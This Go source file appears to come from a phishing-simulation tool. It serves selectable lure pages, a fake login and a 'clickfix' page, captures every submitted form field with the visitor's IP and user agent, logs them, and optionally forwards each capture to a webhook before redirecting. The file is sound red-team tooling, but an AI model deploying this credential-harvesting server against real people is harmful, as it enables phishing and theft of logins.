package harvest

import (
	"context"
	"embed"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"time"

	"github.com/go-chi/chi/v5"
	"github.com/go-chi/chi/v5/middleware"
	"github.com/go-chi/httprate"

	"github.com/praetorian-inc/violet/internal/message"
)

//go:embed static/*.html
var staticPages embed.FS

// Page names selectable from the CLI.
const (
	PageLogin    = "login"
	PageClickFix = "clickfix"
)

// Options configure one demo server instance.
type Options struct {
	Addr string

	// Page selects a built-in lure (login, clickfix); PageFile overrides it
	// with operator-supplied HTML.
	Page     string
	PageFile string

	// LogPath is the JSONL submission log.
	LogPath string

	// WebhookURL, when set, receives a copy of every submission.
	WebhookURL string

	// RedirectURL is where the browser is sent after posting.
	RedirectURL string
}

// Server is one running demo site.
type Server struct {
	opts      Options
	page      []byte
	store     *Store
	forwarder *Forwarder
}

// NewServer loads the lure page and opens the submission log.
func NewServer(opts Options) (*Server, error) {
	if opts.Page == "" {
		opts.Page = PageLogin
	}
	if opts.LogPath == "" {
		opts.LogPath = "submissions.jsonl"
	}
	if opts.RedirectURL == "" {
		opts.RedirectURL = "https://example.com/"
	}

	var page []byte
	var err error
	if opts.PageFile != "" {
		page, err = os.ReadFile(opts.PageFile)
		if err != nil {
			return nil, fmt.Errorf("reading page file: %w", err)
		}
	} else {
		page, err = staticPages.ReadFile("static/" + opts.Page + ".html")
		if err != nil {
			return nil, fmt.Errorf("unknown built-in page %q", opts.Page)
		}
	}

	store, err := OpenStore(opts.LogPath)
	if err != nil {
		return nil, err
	}

	s := &Server{opts: opts, page: page, store: store}
	if opts.WebhookURL != "" {
		s.forwarder = NewForwarder(opts.WebhookURL)
	}
	return s, nil
}

// Router builds the HTTP handler: the lure at /, the capture endpoint at
// /submit, and a health probe.
func (s *Server) Router() http.Handler {
	r := chi.NewRouter()
	r.Use(middleware.RealIP)
	r.Use(httprate.LimitByIP(60, time.Minute))

	r.Get("/", s.handlePage)
	r.Post("/submit", s.handleSubmit)
	r.Get("/healthz", func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusOK)
	})

	return r
}

func (s *Server) handlePage(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Write(s.page)
}

func (s *Server) handleSubmit(w http.ResponseWriter, r *http.Request) {
	if err := r.ParseForm(); err != nil {
		http.Error(w, "bad form", http.StatusBadRequest)
		return
	}

	sub := NewSubmission(s.opts.Page, r.RemoteAddr, r.UserAgent(), r.PostForm)

	if err := s.store.Append(sub); err != nil {
		slog.Error("failed to record submission", "error", err)
	} else {
		message.Success("Captured submission from %s (%d fields)", sub.RemoteAddr, len(sub.Fields))
	}

	if s.forwarder != nil {
		// Webhook delivery must not block or fail the capture path.
		if err := s.forwarder.Forward(r.Context(), sub); err != nil {
			slog.Warn("webhook forward failed", "error", err)
		}
	}

	http.Redirect(w, r, s.opts.RedirectURL, http.StatusSeeOther)
}

// ListenAndServe runs the server until ctx is cancelled, then drains.
func (s *Server) ListenAndServe(ctx context.Context) error {
	srv := &http.Server{
		Addr:              s.opts.Addr,
		Handler:           s.Router(),
		ReadHeaderTimeout: 10 * time.Second,
	}

	errCh := make(chan error, 1)
	go func() {
		message.Info("Serving %s page on %s, logging to %s", s.opts.Page, s.opts.Addr, s.store.Path())
		errCh <- srv.ListenAndServe()
	}()

	select {
	case <-ctx.Done():
		shutdownCtx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		err := srv.Shutdown(shutdownCtx)
		s.store.Close()
		return err
	case err := <-errCh:
		s.store.Close()
		if err == http.ErrServerClosed {
			return nil
		}
		return err
	}
}
